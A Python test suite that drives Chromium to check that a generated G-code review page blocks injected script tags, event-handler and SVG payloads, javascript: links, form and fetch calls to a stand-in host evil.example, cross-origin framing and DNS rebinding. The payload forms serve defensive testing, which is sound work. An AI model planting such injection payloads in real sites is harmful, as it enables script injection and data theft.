"""In a real browser: what is planted in a page does not run, and other pages cannot have a live page."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from judge import browser
from judge.machines import zero_machine
from judge.unpacker import Page

import olp
from olp.review import loopback
from olp.review.live import Server

pytestmark = pytest.mark.slow
TEXT = "G21 G90 G54\nG43 H1\nG0 X0 Y0 Z20\nG1 X100 F600\nM2\n"
#: What runs without a policy, in the browser that tries it, by a name for it; each adds the name to `ran`.
RUN = "(window.ran ??= []).push('{}')"
PLANTED = {
    "script": "<script>{}</script>",
    "module": "<script type=module>{}</script>",
    "handler": "<img src='data:,' onerror=\"{}\">",
    "svg": '<svg onload="{}"></svg>',
    "frame": '<iframe srcdoc="<script>with (parent) {{ {} }}</script>"></iframe>',
    "data": '<script src="data:text/javascript,{}"></script>',
}


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    browser.require()
    names = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    with browser.driver() as play, browser.launched(play, *browser.SOFTWARE_GL, names) as launched:
        yield launched


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("page")
    path = folder / "review.html"
    olp.view(TEXT.encode(), zero_machine(folder / "m"), time=False).write(path)
    return path


@contextmanager
def tab(chromium: Any) -> Iterator[tuple[Any, list[str]]]:
    """An empty tab, and what its console says."""
    context = chromium.new_context()
    try:
        page = context.new_page()
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        yield page, said
    finally:
        context.close()


def ready(page: Any) -> None:
    page.wait_for_selector("html[data-ready]", state="attached", timeout=60_000)


def planted(file: Path, text: str, name: str = "planted.html") -> str:
    """Address of a copy of the page with more at the end of its body."""
    html = file.read_text("utf-8")
    end = html.rindex("</body>")
    (file.parent / name).write_text(html[:end] + text + html[end:], "utf-8")
    return (file.parent / name).as_uri()


def without_policy(file: Path) -> Path:
    """A copy whose policy forbids nothing that is tried here."""
    policy = r'(<meta http-equiv="Content-Security-Policy" content=")[^"]*'
    free, count = re.subn(policy, r"\1default-src * data: 'unsafe-inline'", file.read_text("utf-8"))
    assert count == 1
    path = file.with_name("free.html")
    path.write_text(free, "utf-8")
    return path


# -- the page as a file ---------------------------------------------------------------------------------


def test_scripts_planted_in_a_page_do_not_run(chromium: Any, file: Path) -> None:
    text = "".join(form.format(RUN.format(name)) for name, form in PLANTED.items())
    with tab(chromium) as (page, said):
        page.goto(planted(file, text))
        ready(page)
        assert page.evaluate("window.ran ?? []") == []
        refused = [line for line in said if "Content Security Policy" in line]
        assert len(refused) >= len(PLANTED)
    with tab(chromium) as (page, said):
        # each of them is a script that runs where nothing forbids it
        page.goto(planted(without_policy(file), text))
        ready(page)
        browser.until(page, f"window.ran?.length === {len(PLANTED)}")
        assert sorted(page.evaluate("window.ran")) == sorted(PLANTED)


def test_a_planted_text_cannot_follow_a_script_address_or_send_a_form(chromium: Any, file: Path) -> None:
    text = (
        '<a id="go" href="javascript:window.ran = 1">x</a><base href="https://evil.example/">'
        '<form id="send" action="https://evil.example/"><input name="a"></form>'
    )
    with tab(chromium) as (page, said):
        page.goto(planted(file, text))
        ready(page)
        page.evaluate("document.getElementById('go').click()")
        page.evaluate("document.getElementById('send').submit()")
        page.evaluate(
            "() => { const script = document.createElement('script'); script.textContent = 'window.ran = 2';"
            " document.body.append(script); }"
        )
        page.evaluate("fetch('https://evil.example/').catch(() => {})")
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran ?? null") is None
        assert page.evaluate("document.baseURI") == page.url == planted(file, text)
        for directive in ("script-src", "base-uri", "form-action", "connect-src"):
            assert any(f"{directive}" in line for line in said), (directive, said)


def test_styles_planted_in_a_page_do_not_change_it(chromium: Any, file: Path) -> None:
    text = '<style>#app { opacity: 0.5 }</style><p id="mark" style="opacity: 0.5">x</p>'
    opacities = "['app', 'mark'].map(id => getComputedStyle(document.getElementById(id)).opacity)"
    for source, want in ((file, ["1", "1"]), (without_policy(file), ["0.5", "0.5"])):
        with tab(chromium) as (page, _):
            page.goto(planted(source, text))
            ready(page)
            assert page.evaluate(opacities) == want


def test_dialogs_close_by_their_forms_and_the_console_stays_silent(chromium: Any, file: Path) -> None:
    with browser.opened(chromium, file) as page:
        page.evaluate(
            "() => { const dialog = document.createElement('dialog');"
            " const form = Object.assign(document.createElement('form'), {method: 'dialog'});"
            " form.append(Object.assign(document.createElement('button'), {value: 'kept', id: 'ours'}));"
            " dialog.append(form); dialog.id = 'asked'; document.body.append(dialog); dialog.showModal(); }"
        )
        page.evaluate("document.getElementById('ours').click()")
        browser.until(page, "document.getElementById('asked').returnValue === 'kept'")
        assert page.evaluate("document.getElementById('asked').open") is False


# -- the live page ------------------------------------------------------------------------------------------


@pytest.fixture
def live(tmp_path: Path) -> Iterator[Server]:
    machine = zero_machine(tmp_path / "m")
    server = Server(lambda: olp.view(TEXT.encode(), machine, time=False), [], lambda text: None)
    thread = threading.Thread(target=server.run)
    thread.start()
    yield server
    server.stop()
    thread.join()


class Foreign(BaseHTTPRequestHandler):
    """Another server of this computer: it answers everything with one text, and keeps what it was asked."""

    def __init__(self, text: str, asked: list[str], *words: Any) -> None:
        self.text, self.asked = text, asked
        super().__init__(*words)

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.text.encode())

    def log_message(self, format: str, *args: object) -> None:
        """Not reported."""


@contextmanager
def foreign(text: str, port: int = 0) -> Iterator[tuple[int, list[str]]]:
    """Port of the other server and the paths that it was asked for."""
    asked: list[str] = []
    with ThreadingHTTPServer(("127.0.0.1", port), partial(Foreign, text, asked)) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port, asked
        finally:
            server.shutdown()
            thread.join()


EMBEDDING = """<!DOCTYPE html><title>other</title>
<iframe src="{0}"></iframe><object data="{0}"></object><embed src="{0}">
<script src="{0}version"></script><link rel="stylesheet" href="{0}"><img src="{0}">
<a id="go" href="{0}">the page</a>"""


def texts(page: Any) -> list[str]:
    """What each frame of a tab has, beside the tab itself."""
    return [frame.content() for frame in page.frames[1:]]


@pytest.mark.parametrize("checked", [True, False], ids=["refused by the server", "refused by the headers"])
@pytest.mark.parametrize("host", ["file", "127.0.0.1", "localhost"])
def test_another_page_that_knows_the_address_cannot_embed_or_read_it(
    chromium: Any, live: Server, tmp_path: Path, host: str, checked: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Twice: the server refuses, and where it would not, the browser obeys the headers."""
    if not checked:
        monkeypatch.setattr(loopback, "admits", lambda headers, port: True)
    text = EMBEDDING.format(live.address)
    (tmp_path / "other.html").write_text(text)
    with foreign(text) as (port, _), tab(chromium) as (page, said):
        page.goto((tmp_path / "other.html").as_uri() if host == "file" else f"http://{host}:{port}/")
        page.wait_for_timeout(500)
        assert len(page.frames) >= 2
        assert not any("olp-manifest" in content for content in texts(page)), said
        for mode in ("cors", "no-cors"):
            read = "([address, mode]) => fetch(address, {mode}).then(a => a.text()).catch(e => 'refused')"
            got = page.evaluate(read, [live.address, mode])
            assert got in ("refused", "")
        # a link is followed by the whole tab, and the other page loses hold of it
        page.click("#go")
        ready(page)
        assert page.evaluate("[window.opener, top === window]") == [None, True]


def test_a_frame_shows_the_page_where_nothing_forbids_it(
    chromium: Any, live: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The test above would see it."""
    monkeypatch.setattr(loopback, "admits", lambda headers, port: True)
    monkeypatch.setattr(loopback, "HEADERS", {})
    with foreign(EMBEDDING.format(live.address)) as (port, _), tab(chromium) as (page, _said):
        page.goto(f"http://localhost:{port}/")
        page.frames[1].wait_for_selector("html[data-ready]", state="attached", timeout=120_000)
        assert any("olp-manifest" in content for content in texts(page))


def test_a_window_that_another_page_opens_is_out_of_its_reach(chromium: Any, live: Server) -> None:
    with foreign("<title>other</title>") as (port, _), tab(chromium) as (page, _said):
        page.goto(f"http://127.0.0.1:{port}/")
        with page.expect_popup() as opened:
            page.evaluate("address => { window.theirs = window.open(address); }", live.address)
        ready(opened.value)
        assert page.evaluate("theirs.closed") is True
        assert opened.value.evaluate("window.opener") is None


def test_a_foreign_name_that_leads_here_shows_nothing(chromium: Any, live: Server) -> None:
    """The name of another site that its owner lets lead to this computer (DNS rebinding)."""
    from playwright.sync_api import Error

    address, seen = urlsplit(live.address), []
    for host in ("evil.example", "localhost"):
        with tab(chromium) as (page, _):
            page.on("response", lambda answer: seen.append((urlsplit(answer.url).hostname, answer.status)))
            try:
                page.goto(f"http://{host}:{address.port}{address.path}")
                ready(page)
            except Error as error:
                # Chromium shows a page of its own for an empty refusal
                assert host == "evil.example" and "ERR_HTTP_RESPONSE_CODE_FAILURE" in str(error)
    assert [answer for answer in seen if answer[0] == "evil.example"] == [("evil.example", 403)]
    assert ("localhost", 200) in seen


def test_a_saved_live_page_is_a_file_that_asks_no_server(chromium: Any, live: Server, tmp_path: Path) -> None:
    with browser.opened(chromium, live.address) as page:
        with page.expect_download() as download:
            page.click("#save")
        download.value.save_as(tmp_path / "kept.html")
        proof = Page(page.request.get(live.address).body()).manifest["live"]["proof"]
    text = (tmp_path / "kept.html").read_text("utf-8")
    assert "connect-src 'none'" in text and "connect-src 'self'" not in text.replace(
        "\"connect-src 'self'\"", ""
    )
    assert proof not in text and urlsplit(live.address).path not in text
    assert Page(text.encode()).manifest["live"] is None
    with browser.opened(chromium, tmp_path / "kept.html") as page:
        # longer than the page waits between questions
        page.wait_for_timeout(1500)
        assert page.is_hidden("#toast")
        assert page.evaluate("olp.app.notes.html()") == text


def test_a_server_that_takes_the_port_is_not_followed(chromium: Any, live: Server) -> None:
    port = urlsplit(live.address).port or 0
    with tab(chromium) as (page, _):
        page.goto(live.address)
        ready(page)
        page.evaluate("window.kept = 1")
        live._http.shutdown()
        live._http.server_close()
        with foreign("guess 0123456789ab", port) as (_, asked):
            browser.until(page, "document.getElementById('toast').textContent.includes('does not answer')")
            page.wait_for_timeout(2500)
            assert len(asked) >= 2 and all(path.endswith("/version") for path in asked)
            assert page.evaluate("window.kept") == 1
